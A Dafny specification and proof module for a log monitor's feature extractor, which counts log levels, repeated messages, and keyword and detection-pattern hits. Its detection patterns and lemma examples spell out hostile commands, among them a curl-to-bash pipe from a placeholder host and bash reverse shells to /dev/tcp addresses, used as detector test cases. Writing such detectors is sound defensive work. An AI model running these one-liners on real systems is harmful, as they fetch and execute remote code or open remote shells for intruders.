/**
 * The feature extractor (monitor/features.py): a window of events of one
 * container becomes level counts, distinct/repeat message ratios and, per
 * keyword and per detection pattern, the number of events that mention it.
 * The specification functions below say what each count is; the methods are
 * the source's nested counting loops, proved to compute them.
 */
module Features {
  import opened Common
  import opened Text
  import opened Preprocess

  /** Lower-case substrings looked for in the lower-cased message. */
  const KEYWORDS: seq<string> := [
    "exception", "traceback", "failed", "refused", "timeout", "unauthorized", "forbidden",
    "curl", "base64", "chmod", "/tmp", "reverse shell", "failed password", "portscan"
  ]

  /** The names of the detection patterns, in the order the table lists them. */
  const PATTERN_NAMES: seq<string> := ["curl_pipe_bash", "base64_decode", "reverse_shell", "failed_password", "port_scan"]

  /** The levels counted separately; anything else counts as INFO. */
  const LEVELS: seq<string> := ["DEBUG", "INFO", "WARN", "ERROR"]

  // ---------------------------------------------------------------------------
  // The detection patterns, matched case-insensitively anywhere in the message

  /** The lower-case literal `lit` occurs at position `i` of `s`, ignoring case. */
  predicate LitAt(s: string, i: int, lit: string)
  {
    0 <= i && i + |lit| <= |s| && forall k :: 0 <= k < |lit| ==> Lower(s[i + k]) == lit[k]
  }

  /** A search for the literal `lit`, ignoring case. */
  predicate SearchLit(s: string, lit: string)
  {
    exists i | 0 <= i <= |s| :: LitAt(s, i, lit)
  }

  /** `curl\s+.+\|\s*bash` matches s[i..q + 4]: `curl`, whitespace s[i+4..j], any line s[j..p], `|`, whitespace s[p+1..q], `bash`. */
  predicate CurlPipeBashAt(s: string, i: int, j: int, p: int, q: int)
  {
    && 0 <= i && i + 4 < j < p < q <= |s|
    && LitAt(s, i, "curl") && AllSpace(s[i + 4..j]) && NoNewline(s[j..p])
    && s[p] == '|' && AllSpace(s[p + 1..q]) && LitAt(s, q, "bash")
  }

  predicate CurlPipeBash(s: string)
  {
    exists i, j, p, q | 0 <= i <= |s| && 0 <= j <= |s| && 0 <= p <= |s| && 0 <= q <= |s| :: CurlPipeBashAt(s, i, j, p, q)
  }

  /** `base64\s+-d|base64\s+--decode` matches at `i`, its whitespace ending at `j`. */
  predicate Base64DecodeAt(s: string, i: int, j: int)
  {
    && 0 <= i && i + 6 < j <= |s|
    && LitAt(s, i, "base64") && AllSpace(s[i + 6..j])
    && (LitAt(s, j, "-d") || LitAt(s, j, "--decode"))
  }

  predicate Base64Decode(s: string)
  {
    exists i, j | 0 <= i <= |s| && 0 <= j <= |s| :: Base64DecodeAt(s, i, j)
  }

  /** One to three digits at `p`, then either `.` and `k` more such groups, or (when `k == 0`) `/` and a digit. */
  predicate OctetsAt(s: string, p: nat, k: nat)
    decreases k, 1
  {
    OctetsWith(s, p, 1, k) || OctetsWith(s, p, 2, k) || OctetsWith(s, p, 3, k)
  }

  /** `OctetsAt` with the first group exactly `n` digits long. */
  predicate OctetsWith(s: string, p: nat, n: nat, k: nat)
    decreases k, 0
  {
    && p + n < |s| && AllDigits(s[p..p + n])
    && if k == 0 then s[p + n] == '/' && p + n + 1 < |s| && IsDigit(s[p + n + 1])
       else s[p + n] == '.' && OctetsAt(s, p + n + 1, k - 1)
  }

  /** `/dev/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d+`. */
  predicate ReverseShell(s: string)
  {
    exists i | 0 <= i <= |s| :: LitAt(s, i, "/dev/tcp/") && OctetsAt(s, i + 9, 3)
  }

  /** `failed password`. */
  predicate FailedPassword(s: string)
  {
    SearchLit(s, "failed password")
  }

  /** `portscan|multiple connection attempts|nmap`. */
  predicate PortScan(s: string)
  {
    SearchLit(s, "portscan") || SearchLit(s, "multiple connection attempts") || SearchLit(s, "nmap")
  }

  /** The pattern table: each name with the search it stands for. */
  const PATTERNS: map<string, string -> bool> := map[
    "curl_pipe_bash" := CurlPipeBash,
    "base64_decode" := Base64Decode,
    "reverse_shell" := ReverseShell,
    "failed_password" := FailedPassword,
    "port_scan" := PortScan
  ]

  /** `PATTERNS[name].search(msg)`. */
  predicate PatternMatches(name: string, msg: string)
  {
    name in PATTERNS && PATTERNS[name](msg)
  }

  /** `k in msg.lower()`. */
  predicate KeywordIn(msg: string, k: string)
  {
    Contains(LowerStr(msg), k)
  }

  // ---------------------------------------------------------------------------
  // What each feature is

  /** The number of events whose lower-cased message contains `k`. */
  function KeywordCount(events: seq<LogEvent>, k: string): (n: nat)
    ensures n <= |events|
  {
    if events == [] then 0
    else KeywordCount(events[..|events| - 1], k) + (if KeywordIn(events[|events| - 1].message, k) then 1 else 0)
  }

  /** The number of events whose message the pattern `name` finds something in. */
  function PatternCount(events: seq<LogEvent>, name: string): (n: nat)
    ensures n <= |events|
  {
    if events == [] then 0
    else PatternCount(events[..|events| - 1], name) + (if PatternMatches(name, events[|events| - 1].message) then 1 else 0)
  }

  function KeywordHits(events: seq<LogEvent>): map<string, nat>
  {
    map k | k in KEYWORDS :: KeywordCount(events, k)
  }

  function PatternHits(events: seq<LogEvent>): map<string, nat>
  {
    map name | name in PATTERNS :: PatternCount(events, name)
  }

  /** `_normalize_level`: strip, upper-case, and INFO for anything not in LEVELS. */
  function NormalizeLevel(level: string): (r: string)
    ensures r in LEVELS
    ensures r != "INFO" ==> UpperStr(Strip(level)) == r
    ensures UpperStr(Strip(level)) in LEVELS ==> r == UpperStr(Strip(level))
  {
    var lvl := UpperStr(Strip(level));
    if lvl in LEVELS then lvl else "INFO"
  }

  /** The number of events whose normalised level is `lvl`. */
  function LevelCount(events: seq<LogEvent>, lvl: string): (n: nat)
    ensures n <= |events|
  {
    if events == [] then 0
    else LevelCount(events[..|events| - 1], lvl) + (if NormalizeLevel(events[|events| - 1].level) == lvl then 1 else 0)
  }

  /** `[e.message.strip() for e in events if e.message]`: the test is on the unstripped message. */
  function MessageList(events: seq<LogEvent>): (ms: seq<string>)
    ensures |ms| <= |events|
  {
    if events == [] then []
    else
      var e := events[|events| - 1];
      MessageList(events[..|events| - 1]) + (if e.message != "" then [Strip(e.message)] else [])
  }

  function ElementSet(ms: seq<string>): set<string>
  {
    set m | m in ms
  }

  /** `len(set(messages))`. */
  function DistinctCount(events: seq<LogEvent>): nat
  {
    |ElementSet(MessageList(events))|
  }

  function UniqRatio(events: seq<LogEvent>): real
  {
    if |events| == 0 then 0.0 else DistinctCount(events) as real / |events| as real
  }

  function RepeatRatio(events: seq<LogEvent>): real
  {
    if |events| == 0 then 0.0 else 1.0 - UniqRatio(events)
  }

  datatype WindowFeatures = WindowFeatures(
    container: string,
    total: nat,
    debug: nat,
    info: nat,
    warn: nat,
    error: nat,
    uniqRatio: real,
    repeatRatio: real,
    keywordHits: map<string, nat>,
    patternHits: map<string, nat>)

  /** The features of one window, as `compute_features` defines them (ratios exact, not rounded). */
  function FeaturesOf(container: string, events: seq<LogEvent>): WindowFeatures
  {
    WindowFeatures(container, |events|,
      LevelCount(events, "DEBUG"), LevelCount(events, "INFO"), LevelCount(events, "WARN"), LevelCount(events, "ERROR"),
      UniqRatio(events), RepeatRatio(events), KeywordHits(events), PatternHits(events))
  }

  /**
   * The invariant a feature record keeps: the four level counts add up to the
   * total, the ratios lie in [0, 1] and add up to 1 (both 0 for an empty
   * window), every keyword and pattern has an entry, and no entry exceeds the total.
   */
  predicate WellFormed(f: WindowFeatures)
  {
    && f.debug + f.info + f.warn + f.error == f.total
    && 0.0 <= f.uniqRatio <= 1.0 && 0.0 <= f.repeatRatio <= 1.0
    && (f.total > 0 ==> f.uniqRatio + f.repeatRatio == 1.0)
    && (f.total == 0 ==> f.uniqRatio == 0.0 && f.repeatRatio == 0.0)
    && (forall k :: k in KEYWORDS ==> k in f.keywordHits)
    && (forall name :: name in PATTERNS ==> name in f.patternHits)
    && (forall k :: k in f.keywordHits ==> f.keywordHits[k] <= f.total)
    && (forall name :: name in f.patternHits ==> f.patternHits[name] <= f.total)
  }

  // ---------------------------------------------------------------------------
  // Properties of the features

  /** Every event is counted under exactly one of the four levels. */
  lemma {:induction false} LevelCountsSum(events: seq<LogEvent>)
    ensures LevelCount(events, "DEBUG") + LevelCount(events, "INFO") + LevelCount(events, "WARN") + LevelCount(events, "ERROR") == |events|
  {
    if events != [] {
      var init := events[..|events| - 1];
      LevelCountsSum(init);
      var r := NormalizeLevel(events[|events| - 1].level);
      NormalizedIsKnown(events[|events| - 1].level);
      assert LevelCount(events, "DEBUG") == LevelCount(init, "DEBUG") + (if r == "DEBUG" then 1 else 0);
    }
  }

  /** Appending an event adds one to the count of its normalised level and to no other. */
  lemma LevelCountAppend(events: seq<LogEvent>, e: LogEvent, lvl: string)
    ensures LevelCount(events + [e], lvl) == LevelCount(events, lvl) + if NormalizeLevel(e.level) == lvl then 1 else 0
  {
    assert (events + [e])[..|events|] == events;
  }

  /** A non-empty message with no whitespace at either end, which stripping leaves alone. */
  predicate Bare(m: string)
  {
    m != [] && !IsSpace(m[0]) && !IsSpace(m[|m| - 1])
  }

  /** Appending an event whose message is already bare appends that message to the message list. */
  lemma AppendBare(events: seq<LogEvent>, e: LogEvent)
    requires Bare(e.message)
    ensures MessageList(events + [e]) == MessageList(events) + [e.message]
  {
    assert (events + [e])[..|events|] == events;
    StripUnchanged(e.message);
  }

  lemma NormalizedIsKnown(level: string)
    ensures var r := NormalizeLevel(level); r == "DEBUG" || r == "INFO" || r == "WARN" || r == "ERROR"
  {
    var r := NormalizeLevel(level);
    assert exists i :: 0 <= i < 4 && r == LEVELS[i];
  }

  /** Of the levels the parser emits, TRACE counts as INFO and the other four count as themselves. */
  lemma NormalizeParsedLevel(level: string)
    requires level in LEVEL_TOKENS
    ensures NormalizeLevel(level) == if level == "TRACE" then "INFO" else level
  {
    var i :| 0 <= i < 5 && LEVEL_TOKENS[i] == level;
    if i == 4 {
      UpperWordUnchanged("TRACE");
      assert !("TRACE" in LEVELS);
    } else {
      var j := [1, 2, 3, 0][i];
      assert LEVELS[j] == level;
      KnownLevelUnchanged(j);
    }
  }

  /** Each of the counted levels normalises to itself. */
  lemma KnownLevelUnchanged(j: nat)
    requires j < 4
    ensures NormalizeLevel(LEVELS[j]) == LEVELS[j]
  {
    var w := LEVELS[j];
    UpperWordUnchanged(w);
    assert w in LEVELS;
  }

  /** A word of capital letters is its own stripped, upper-cased form. */
  lemma UpperWordUnchanged(w: string)
    requires w != [] && forall i :: 0 <= i < |w| ==> 'A' <= w[i] <= 'Z'
    ensures Strip(w) == w && UpperStr(w) == w
  {
    assert TrimStart(w) == w;
    assert TrimEnd(w) == w;
  }

  /** Surrounding whitespace and the case the level is written in do not matter. */
  lemma NormalizeLevelIgnoresCaseAndPadding(p: string, level: string, q: string)
    requires AllSpace(p) && AllSpace(q)
    ensures NormalizeLevel(p + level + q) == NormalizeLevel(level)
    ensures NormalizeLevel(LowerStr(level)) == NormalizeLevel(level)
  {
    assert UpperStr(Strip(p + level + q)) == UpperStr(Strip(level)) by {
      StripPadded(p, level, q);
    }
    assert UpperStr(Strip(LowerStr(level))) == UpperStr(Strip(level)) by {
      StripUpperIgnoresCase(level);
    }
  }

  /** An empty level counts as INFO. */
  lemma EmptyLevelIsInfo()
    ensures NormalizeLevel("") == "INFO"
  {
    assert Strip("") == "" && UpperStr("") == "";
  }

  lemma {:induction false} ElementSetSize(ms: seq<string>)
    ensures |ElementSet(ms)| <= |ms|
  {
    if ms != [] {
      var init := ms[..|ms| - 1];
      ElementSetSize(init);
      assert ms == init + [ms[|ms| - 1]];
      assert ElementSet(ms) == ElementSet(init) + {ms[|ms| - 1]};
    }
  }

  /** There are never more distinct messages than events. */
  lemma DistinctAtMostTotal(events: seq<LogEvent>)
    ensures DistinctCount(events) <= |events|
  {
    ElementSetSize(MessageList(events));
  }

  /** Both ratios lie in [0, 1]; they add up to 1 on a non-empty window and are both 0 on an empty one. */
  lemma RatioLaws(events: seq<LogEvent>)
    ensures 0.0 <= UniqRatio(events) <= 1.0 && 0.0 <= RepeatRatio(events) <= 1.0
    ensures |events| > 0 ==> UniqRatio(events) + RepeatRatio(events) == 1.0
    ensures |events| == 0 ==> UniqRatio(events) == 0.0 && RepeatRatio(events) == 0.0
  {
    DistinctAtMostTotal(events);
    if |events| > 0 {
      FractionAtMostOne(DistinctCount(events) as real, |events| as real);
    }
  }

  lemma FractionAtMostOne(u: real, t: real)
    requires 0.0 <= u <= t && t > 0.0
    ensures 0.0 <= u / t <= 1.0
  {
    var q := u / t;
    assert q * t == u;
  }

  /** A window whose messages are all empty has no distinct messages at all, so everything in it counts as a repeat. */
  lemma {:induction false} EmptyMessagesAreRepeats(events: seq<LogEvent>)
    requires |events| > 0 && forall e :: e in events ==> e.message == ""
    ensures UniqRatio(events) == 0.0 && RepeatRatio(events) == 1.0
  {
    assert MessageList(events) == [] by { NoMessages(events); }
    assert ElementSet([]) == {};
  }

  lemma {:induction false} NoMessages(events: seq<LogEvent>)
    requires forall e :: e in events ==> e.message == ""
    ensures MessageList(events) == []
  {
    if events != [] {
      assert forall e :: e in events[..|events| - 1] ==> e in events;
      NoMessages(events[..|events| - 1]);
    }
  }

  /**
   * A message of whitespace only passes the (unstripped) emptiness test and
   * enters the distinct set as "": a window of such messages has exactly one
   * distinct message.
   */
  lemma {:induction false} BlankMessagesCountAsOne(events: seq<LogEvent>)
    requires |events| > 0 && forall e :: e in events ==> e.message != "" && AllSpace(e.message)
    ensures DistinctCount(events) == 1
  {
    BlankMessages(events);
    var ms := MessageList(events);
    assert ms[0] in ms;
    assert ElementSet(ms) == {""};
  }

  lemma {:induction false} BlankMessages(events: seq<LogEvent>)
    requires forall e :: e in events ==> e.message != "" && AllSpace(e.message)
    ensures |MessageList(events)| == |events| && forall m :: m in MessageList(events) ==> m == ""
  {
    if events != [] {
      var e := events[|events| - 1];
      assert forall x :: x in events[..|events| - 1] ==> x in events;
      BlankMessages(events[..|events| - 1]);
      StripSpec(e.message);
    }
  }

  /** Keyword matching is a substring test, so an event that mentions "failed password" also mentions "failed". */
  lemma {:induction false} FailedPasswordImpliesFailed(events: seq<LogEvent>)
    ensures KeywordCount(events, "failed password") <= KeywordCount(events, "failed")
  {
    if events != [] {
      FailedPasswordImpliesFailed(events[..|events| - 1]);
      var msg := LowerStr(events[|events| - 1].message);
      if Contains(msg, "failed password") {
        assert "failed password" == "failed" + " password";
        ContainsPrefix(msg, "failed", " password");
      }
    }
  }

  /** A case-insensitive search for a lower-case literal is the substring test on the lower-cased text. */
  lemma SearchLitIsKeyword(s: string, lit: string)
    ensures SearchLit(s, lit) <==> Contains(LowerStr(s), lit)
  {
    var l := LowerStr(s);
    ContainsIff(l, lit);
    if SearchLit(s, lit) {
      var i :| 0 <= i <= |s| && LitAt(s, i, lit);
      assert l[i..i + |lit|] == lit;
      assert OccursAt(l, lit, i);
    }
    if Contains(l, lit) {
      var i :| OccursAt(l, lit, i);
      forall k | 0 <= k < |lit| ensures Lower(s[i + k]) == lit[k] {
        assert l[i..i + |lit|][k] == l[i + k];
      }
      assert LitAt(s, i, lit);
    }
  }

  /** The `failed_password` pattern and the "failed password" keyword count the same events. */
  lemma {:induction false} FailedPasswordPatternIsKeyword(events: seq<LogEvent>)
    ensures PatternCount(events, "failed_password") == KeywordCount(events, "failed password")
  {
    if events != [] {
      FailedPasswordPatternIsKeyword(events[..|events| - 1]);
      SearchLitIsKeyword(events[|events| - 1].message, "failed password");
    }
  }

  /** Two events (or one, when `a == b`) whose message mentions `k` make its count at least two (one). */
  lemma {:induction false} KeywordCountAtLeast(events: seq<LogEvent>, k: string, a: nat, b: nat)
    requires a <= b < |events|
    requires KeywordIn(events[a].message, k) && KeywordIn(events[b].message, k)
    ensures KeywordCount(events, k) >= if a == b then 1 else 2
  {
    var n := |events| - 1;
    var init := events[..n];
    if b < n {
      assert init[a] == events[a] && init[b] == events[b];
      KeywordCountAtLeast(init, k, a, b);
    } else if a < b {
      assert init[a] == events[a];
      KeywordCountAtLeast(init, k, a, a);
    }
  }

  /** Two events (or one, when `a == b`) that pattern `name` finds something in make its count at least two (one). */
  lemma {:induction false} PatternCountAtLeast(events: seq<LogEvent>, name: string, a: nat, b: nat)
    requires a <= b < |events|
    requires PatternMatches(name, events[a].message) && PatternMatches(name, events[b].message)
    ensures PatternCount(events, name) >= if a == b then 1 else 2
  {
    var n := |events| - 1;
    var init := events[..n];
    if b < n {
      assert init[a] == events[a] && init[b] == events[b];
      PatternCountAtLeast(init, name, a, b);
    } else if a < b {
      assert init[a] == events[a];
      PatternCountAtLeast(init, name, a, a);
    }
  }

  /** Messages the parser produces are already stripped, so the unstripped and the stripped emptiness tests agree on them. */
  lemma ParsedMessagesAreStripped(container: string, line: string, now: Instant)
    requires ParseLogLine(container, line, now).Ok?
    ensures var msg := ParseLogLine(container, line, now).value.message;
      Strip(msg) == msg && (msg != "" <==> Strip(msg) != "")
  {
    var raw := TrimNewlines(line);
    match MatchLine(raw)
    case Some(m) => StripIdempotent(RestGroup(raw, m));
    case None => StripIdempotent(raw);
  }

  /** `compute_features` always yields a well-formed feature record. */
  lemma FeaturesWellFormed(container: string, events: seq<LogEvent>)
    ensures WellFormed(FeaturesOf(container, events))
  {
    LevelCountsSum(events);
    RatioLaws(events);
  }

  // ---------------------------------------------------------------------------
  // compute_features

  lemma KeywordsDistinct()
    ensures forall s, t :: 0 <= s < t < |KEYWORDS| ==> KEYWORDS[s] != KEYWORDS[t]
  {
  }

  /** PATTERN_NAMES lists the keys of the pattern table once each, in the table's order. */
  lemma PatternNamesAreKeys()
    ensures forall s, t :: 0 <= s < t < |PATTERN_NAMES| ==> PATTERN_NAMES[s] != PATTERN_NAMES[t]
    ensures forall name :: name in PATTERNS <==> name in PATTERN_NAMES
  {
  }

  // ---------------------------------------------------------------------------
  // What each detection pattern finds, and a near miss it does not

  /** A piece that lower-cases to `lit` is found where it sits. */
  lemma LitAtPiece(pre: string, w: string, post: string, lit: string)
    requires LowerStr(w) == lit
    ensures LitAt(pre + w + post, |pre|, lit)
  {
    var s := pre + w + post;
    forall k | 0 <= k < |lit|
      ensures Lower(s[|pre| + k]) == lit[k]
    {
      assert s[|pre| + k] == w[k];
    }
  }

  /** One character that differs, ignoring case, rules out the literal at `i`. */
  lemma LitMismatch(s: string, i: int, lit: string, k: nat)
    requires 0 <= i && k < |lit| && i + k < |s| && Lower(s[i + k]) != lit[k]
    ensures !LitAt(s, i, lit)
  {
  }

  /** Text written the way `curl\s+.+\|\s*bash` reads, in any letter case, is found. */
  lemma CurlPipeBashFound(pre: string, c: string, ws: string, mid: string, ws2: string, b: string, post: string)
    requires LowerStr(c) == "curl" && LowerStr(b) == "bash"
    requires ws != [] && AllSpace(ws) && mid != [] && NoNewline(mid) && AllSpace(ws2)
    ensures CurlPipeBash(pre + c + ws + mid + "|" + ws2 + b + post)
  {
    var left, right := pre + c + ws + mid, ws2 + b + post;
    var s := left + "|" + right;
    assert s == pre + c + ws + mid + "|" + ws2 + b + post;
    var i := |pre|;
    var j := i + 4 + |ws|;
    var p := j + |mid|;
    var q := p + 1 + |ws2|;
    assert s[..i + 4] == pre + c;
    LitAtPiece(pre, c, ws + mid + "|" + right, "curl");
    assert pre + c + (ws + mid + "|" + right) == s;
    assert s[i + 4..j] == ws;
    assert s[j..p] == mid;
    assert s[p] == '|';
    assert s[p + 1..q] == ws2;
    LitAtPiece(left + "|" + ws2, b, post, "bash");
    assert left + "|" + ws2 + b + post == s;
    assert CurlPipeBashAt(s, i, j, p, q);
  }

  /** Without a `|` there is no curl_pipe_bash match, whatever else the line says. */
  lemma CurlPipeBashNeedsPipe(s: string)
    requires forall k :: 0 <= k < |s| ==> s[k] != '|'
    ensures !CurlPipeBash(s)
  {
  }

  /** Text written the way `base64\s+-d|base64\s+--decode` reads, in any letter case, is found. */
  lemma Base64DecodeFound(pre: string, w: string, ws: string, flag: string, post: string)
    requires LowerStr(w) == "base64" && (LowerStr(flag) == "-d" || LowerStr(flag) == "--decode")
    requires ws != [] && AllSpace(ws)
    ensures Base64Decode(pre + w + ws + flag + post)
  {
    var left := pre + w + ws;
    var s := left + flag + post;
    var i := |pre|;
    var j := |left|;
    LitAtPiece(pre, w, ws + flag + post, "base64");
    assert pre + w + (ws + flag + post) == s;
    assert s[i + 6..j] == ws by {
      assert s[..j] == left;
    }
    LitAtPiece(left, flag, post, LowerStr(flag));
    assert Base64DecodeAt(s, i, j);
  }

  /** `base64` must be followed by whitespace: a line without whitespace never matches. */
  lemma Base64DecodeNeedsSpace(s: string)
    requires forall k :: 0 <= k < |s| ==> !IsSpace(s[k])
    ensures !Base64Decode(s)
  {
    forall i, j | 0 <= i <= |s| && 0 <= j <= |s|
      ensures !Base64DecodeAt(s, i, j)
    {
      if 0 <= i && i + 6 < j <= |s| {
        assert s[i + 6..j][0] == s[i + 6];
      }
    }
  }

  /** A dotted group pattern needs the dot it is named for: with `k > 0` groups to follow, a `.` comes next. */
  lemma OctetsNeedDot(s: string, p: nat, k: nat)
    requires k > 0 && OctetsAt(s, p, k)
    ensures exists x :: p < x < |s| && s[x] == '.'
  {
    if OctetsWith(s, p, 1, k) {
      assert s[p + 1] == '.';
    } else if OctetsWith(s, p, 2, k) {
      assert s[p + 2] == '.';
    } else {
      assert s[p + 3] == '.';
    }
  }

  /** A host name instead of a dotted address is not a reverse-shell indicator. */
  lemma ReverseShellNeedsDot(s: string)
    requires forall k :: 0 <= k < |s| ==> s[k] != '.'
    ensures !ReverseShell(s)
  {
    if ReverseShell(s) {
      var i :| 0 <= i <= |s| && LitAt(s, i, "/dev/tcp/") && OctetsAt(s, i + 9, 3);
      OctetsNeedDot(s, i + 9, 3);
    }
  }

  /** Text written the way `failed password` reads, in any letter case, is found. */
  lemma FailedPasswordFound(pre: string, w: string, post: string)
    requires LowerStr(w) == "failed password"
    ensures FailedPassword(pre + w + post)
  {
    LitAtPiece(pre, w, post, "failed password");
  }

  /** Each of the three port-scan phrases, in any letter case, is found. */
  lemma PortScanFound(pre: string, w: string, post: string)
    requires LowerStr(w) == "portscan" || LowerStr(w) == "multiple connection attempts" || LowerStr(w) == "nmap"
    ensures PortScan(pre + w + post)
  {
    LitAtPiece(pre, w, post, LowerStr(w));
  }

  /** curl_pipe_bash finds a piped download written in capitals. */
  lemma CurlPipeBashExample()
    ensures CurlPipeBash("CURL -s http://x/a.sh | BASH")
  {
    assert "" + "CURL" + " " == "CURL ";
    assert "CURL " + "-s http://x/a.sh " + "|" == "CURL -s http://x/a.sh |";
    assert "CURL -s http://x/a.sh |" + " " + "BASH" + "" == "CURL -s http://x/a.sh | BASH";
    CurlPipeBashFound("", "CURL", " ", "-s http://x/a.sh ", " ", "BASH", "");
  }

  /** curl_pipe_bash misses a download saved to a file (the `curl` keyword still counts it). */
  lemma CurlPipeBashNearMiss()
    ensures !CurlPipeBash("curl -o /tmp/a.sh http://x/a.sh")
  {
    CurlPipeBashNeedsPipe("curl -o /tmp/a.sh http://x/a.sh");
  }

  /** base64_decode finds the short flag, and the long flag in capitals. */
  lemma Base64DecodeExample()
    ensures Base64Decode("echo aGk= | base64 -d")
    ensures Base64Decode("BASE64 --DECODE payload")
  {
    assert "echo aGk= | " + "base64" + " " + "-d" + "" == "echo aGk= | base64 -d";
    assert "" + "BASE64" + " " + "--DECODE" + " payload" == "BASE64 --DECODE payload";
    Base64DecodeFound("echo aGk= | ", "base64", " ", "-d", "");
    Base64DecodeFound("", "BASE64", " ", "--DECODE", " payload");
  }

  /** base64_decode misses `base64-d` without the space. */
  lemma Base64DecodeNearMiss()
    ensures !Base64Decode("base64-d")
  {
    Base64DecodeNeedsSpace("base64-d");
  }

  /** The address groups at `p` of `y` are still there, shifted, once `x` is put in front. */
  lemma {:induction false} OctetsShift(x: string, y: string, p: nat, k: nat)
    requires OctetsAt(y, p, k)
    ensures OctetsAt(x + y, |x| + p, k)
    decreases k
  {
    var s := x + y;
    var n := if OctetsWith(y, p, 1, k) then 1 else if OctetsWith(y, p, 2, k) then 2 else 3;
    assert s[|x| + p..|x| + p + n] == y[p..p + n];
    if k > 0 {
      OctetsShift(x, y, p + n + 1, k - 1);
    }
    assert OctetsWith(s, |x| + p, n, k);
  }

  /** A group of one to three digits, then `/` and a port digit: the last address group. */
  lemma OctetsLast(g: string, rest: string)
    requires 1 <= |g| <= 3 && AllDigits(g)
    requires |rest| > 1 && rest[0] == '/' && IsDigit(rest[1])
    ensures OctetsAt(g + rest, 0, 0)
  {
    assert (g + rest)[..|g|] == g;
    assert OctetsWith(g + rest, 0, |g|, 0);
  }

  /** A group of one to three digits, a dot, and `k - 1` more groups. */
  lemma OctetsCons(g: string, rest: string, k: nat)
    requires 1 <= |g| <= 3 && AllDigits(g) && k > 0
    requires OctetsAt(rest, 0, k - 1)
    ensures OctetsAt(g + "." + rest, 0, k)
  {
    var s := g + "." + rest;
    OctetsShift(g + ".", rest, 0, k - 1);
    assert s[..|g|] == g;
    assert OctetsWith(s, 0, |g|, k);
  }

  /** `/dev/tcp/` in any case, a four-group dotted address of one to three digits each, `/` and a port is found. */
  lemma ReverseShellFound(pre: string, w: string, a: string, b: string, c: string, d: string, port: string, post: string)
    requires LowerStr(w) == "/dev/tcp/"
    requires 1 <= |a| <= 3 && AllDigits(a) && 1 <= |b| <= 3 && AllDigits(b)
    requires 1 <= |c| <= 3 && AllDigits(c) && 1 <= |d| <= 3 && AllDigits(d)
    requires port != [] && AllDigits(port)
    ensures ReverseShell(pre + w + (a + "." + (b + "." + (c + "." + (d + "/" + port + post)))))
  {
    var r0 := d + "/" + port + post;
    assert IsDigit(port[0]);
    OctetsLast(d, "/" + port + post);
    assert d + ("/" + port + post) == r0;
    var r1 := c + "." + r0;
    OctetsCons(c, r0, 1);
    var r2 := b + "." + r1;
    OctetsCons(b, r1, 2);
    var r3 := a + "." + r2;
    OctetsCons(a, r2, 3);
    var s := pre + w + r3;
    OctetsShift(pre + w, r3, 0, 3);
    LitAtPiece(pre, w, r3, "/dev/tcp/");
    assert |pre + w| == |pre| + 9;
  }

  /** reverse_shell finds the classic bash redirection to an address and port. */
  lemma ReverseShellExample()
    ensures ReverseShell("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")
  {
    assert "5" + "/" + "4444" + " 0>&1" == "5/4444 0>&1";
    assert "0" + "." + "5/4444 0>&1" == "0.5/4444 0>&1";
    assert "0" + "." + "0.5/4444 0>&1" == "0.0.5/4444 0>&1";
    assert "10" + "." + "0.0.5/4444 0>&1" == "10.0.0.5/4444 0>&1";
    assert "bash -i >& " + "/dev/tcp/" + "10.0.0.5/4444 0>&1" == "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1";
    ReverseShellFound("bash -i >& ", "/dev/tcp/", "10", "0", "0", "5", "4444", " 0>&1");
  }

  /** Address groups at `p` take at least two characters per further group, a digit, `/` and a port digit. */
  lemma {:induction false} OctetsLength(s: string, p: nat, k: nat)
    requires OctetsAt(s, p, k)
    ensures p + 2 * k + 3 <= |s|
    decreases k
  {
    var n := if OctetsWith(s, p, 1, k) then 1 else if OctetsWith(s, p, 2, k) then 2 else 3;
    if k > 0 {
      OctetsLength(s, p + n + 1, k - 1);
    }
  }

  /** reverse_shell needs at least 18 characters: the path and the shortest address `1.2.3.4/5`. */
  lemma ReverseShellLength(s: string)
    requires ReverseShell(s)
    ensures |s| >= 18
  {
    var i :| 0 <= i <= |s| && LitAt(s, i, "/dev/tcp/") && OctetsAt(s, i + 9, 3);
    OctetsLength(s, i + 9, 3);
  }

  /** reverse_shell misses an address of three groups. */
  lemma ReverseShellThreeGroups()
    ensures !ReverseShell("/dev/tcp/1.2.3/4")
  {
    if ReverseShell("/dev/tcp/1.2.3/4") {
      ReverseShellLength("/dev/tcp/1.2.3/4");
    }
  }

  /** reverse_shell misses a `/dev/tcp/` path to a host name. */
  lemma ReverseShellNearMiss()
    ensures !ReverseShell("bash -i >& /dev/tcp/attacker/4444")
  {
    ReverseShellNeedsDot("bash -i >& /dev/tcp/attacker/4444");
  }

  /** failed_password ignores case, and needs the whole phrase. */
  lemma FailedPasswordExample()
    ensures FailedPassword("FAILED PASSWORD for root")
    ensures !FailedPassword("failed passwd")
  {
    assert "" + "FAILED PASSWORD" + " for root" == "FAILED PASSWORD for root";
    FailedPasswordFound("", "FAILED PASSWORD", " for root");
  }

  /** port_scan finds `nmap` in any case, and the connection-attempts phrase. */
  lemma PortScanExample()
    ensures PortScan("Nmap scan report")
    ensures PortScan("multiple connection attempts from 10.0.0.5")
  {
    assert "" + "Nmap" + " scan report" == "Nmap scan report";
    assert "" + "multiple connection attempts" + " from 10.0.0.5" == "multiple connection attempts from 10.0.0.5";
    PortScanFound("", "Nmap", " scan report");
    PortScanFound("", "multiple connection attempts", " from 10.0.0.5");
  }

  /** The keyword loop: one pass over the events, and for each event one increment per keyword it mentions. */
  method CountKeywords(events: seq<LogEvent>) returns (counts: map<string, nat>)
    ensures counts == KeywordHits(events)
  {
    counts := map k | k in KEYWORDS :: 0;
    var i := 0;
    while i < |events|
      invariant 0 <= i <= |events|
      invariant counts == KeywordHits(events[..i])
    {
      counts := AddKeywordHits(counts, events[i].message);
      assert events[..i + 1][..i] == events[..i];
      forall k | k in KEYWORDS ensures counts[k] == KeywordCount(events[..i + 1], k) {
      }
      i := i + 1;
    }
    assert events[..|events|] == events;
  }

  /** The inner keyword loop for one message: one increment per keyword its lower-cased text contains. */
  method AddKeywordHits(counts: map<string, nat>, msg: string) returns (counts': map<string, nat>)
    requires forall k :: k in counts <==> k in KEYWORDS
    ensures forall k :: k in counts' <==> k in KEYWORDS
    ensures forall k :: k in KEYWORDS ==> counts'[k] == counts[k] + (if KeywordIn(msg, k) then 1 else 0)
  {
    KeywordsDistinct();
    var msgL := LowerStr(msg);
    counts' := counts;
    var j := 0;
    while j < |KEYWORDS|
      invariant 0 <= j <= |KEYWORDS|
      invariant forall k :: k in counts' <==> k in KEYWORDS
      invariant forall t :: 0 <= t < |KEYWORDS| ==>
